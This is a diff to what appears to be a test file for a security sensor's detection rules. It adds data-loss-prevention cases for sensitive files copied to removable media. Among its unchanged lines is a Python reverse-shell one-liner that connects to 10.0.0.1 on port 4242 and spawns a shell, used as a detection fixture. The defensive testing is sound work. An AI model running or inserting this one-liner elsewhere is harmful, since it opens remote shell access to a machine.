@@ -45,6 +45,19 @@ function connect(source: string): SentinelEvent {
   };
 }
 
+function dlp(destination: string, confidence: number, verdict = 'match'): SentinelEvent {
+  const match = { index: 'i', rule: 'r', kind: 'row', type: 'iban', count: 1, offset: 0, length: 22 };
+  const common = { verdict, trigger: 'close_write', bytes: 1, tookMs: 1, ofEventId: 4 };
+  const matches = verdict === 'match' ? [{ ...match, confidence }] : [];
+  return {
+    ...exec('/usr/bin/cp'),
+    type: 'dlp',
+    action: verdict,
+    file: { path: '/media/a/x.csv', op: 'write' },
+    dlp: { ...common, destination, matches, matchesTotal: matches.length },
+  };
+}
+
 const PYTHON =
   'import socket,os,pty;s=socket.socket();s.connect(("10.0.0.1",4242));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")';
 
@@ -100,6 +113,15 @@ const CASES: Record<string, { hits: SentinelEvent[]; misses: SentinelEvent[] }> 
       file('/usr/bin/dpkg', 'rename', '/usr/lib/sentinel/sentinel'),
       file('/usr/bin/rm', 'unlink', '/var/lib/other'),
       file('/usr/bin/cat', 'open', '/etc/sentinel/config.yml'),
+    ],
+  },
+  'protected-data-to-media': {
+    hits: [dlp('removable', 0.99)],
+    misses: [
+      dlp('removable', 0.5),
+      dlp('network_share', 0.99),
+      dlp('removable', 0.99, 'unscannable'),
+      file('/usr/bin/cp', 'write', '/media/a/x.csv'),
     ],
   },
   'sensor-disarm': {
